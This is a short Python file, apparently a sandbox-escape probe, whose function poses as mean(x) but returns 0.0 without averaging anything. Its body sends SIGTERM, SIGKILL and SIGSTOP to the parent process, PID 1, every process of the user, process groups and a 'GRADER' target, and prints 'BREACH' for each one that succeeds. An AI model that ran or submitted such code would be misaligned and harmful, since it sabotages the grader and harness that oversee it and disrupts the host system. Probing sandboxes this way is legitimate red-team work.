"""Kill the process above, the first one, all of its user's, and whole groups."""

import os
import signal

GRADER = 0


def mean(x):
    for pid in (os.getppid(), 1, 0, -1, -os.getpgrp(), -os.getppid(), GRADER):
        for number in (0, signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(pid, number)
                print("BREACH: signalled", pid, number)
            except OSError:
                pass
    return 0.0
